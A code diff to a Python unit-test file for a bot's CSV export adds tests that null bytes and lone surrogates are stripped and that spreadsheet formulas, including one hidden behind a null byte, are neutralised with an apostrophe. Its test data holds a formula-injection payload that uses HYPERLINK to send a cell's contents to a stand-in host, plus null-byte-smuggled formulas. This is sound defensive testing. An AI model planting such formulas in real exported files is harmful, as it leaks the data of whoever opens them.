@@ -9,7 +9,8 @@ import pytest
 
 from bot.desk_export.as_csv import BYTE_ORDER_MARK, safe, to_csv
 from bot.desk_export.record import Record, Setting, record_of
-from tests.unit.desk_export.conftest import answer, handoff, summary
+from bot.store.handoffs import Note
+from tests.unit.desk_export.conftest import SENT, answer, handoff, summary
 
 FORMULAS = (
     '=HYPERLINK("http://x.test/?"&A1)',
@@ -39,6 +40,21 @@ def one(setting: Setting, *answers: dict[str, object]) -> Record:
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_what_a_spreadsheet_would_run_gets_an_apostrophe(formula: str) -> None:
     assert safe(formula) == f"'{formula}"
+
+
+@pytest.mark.parametrize("text", ["\0null", "a\0b", "\ud800a", "\0=1+1"])
+def test_no_stored_text_breaks_the_table(text: str, setting: Setting) -> None:
+    noted = handoff(
+        summary=summary(answers=[answer("help\0", "What?", text)]),
+        notes=[Note("Sam\0 Desk", SENT, text)],
+    )
+    made = to_csv([record_of(noted, setting, notes=True)])
+    assert "\0" not in made.encode().decode()
+    assert "Sam Desk: " in made
+
+
+def test_a_formula_behind_a_null_is_still_none() -> None:
+    assert safe("\0=1+1") == "'=1+1"
 
 
 @pytest.mark.parametrize("plain", ["Alcohol", "José", "(617) 555-0142", "", "a=b", "2027-01-15"])
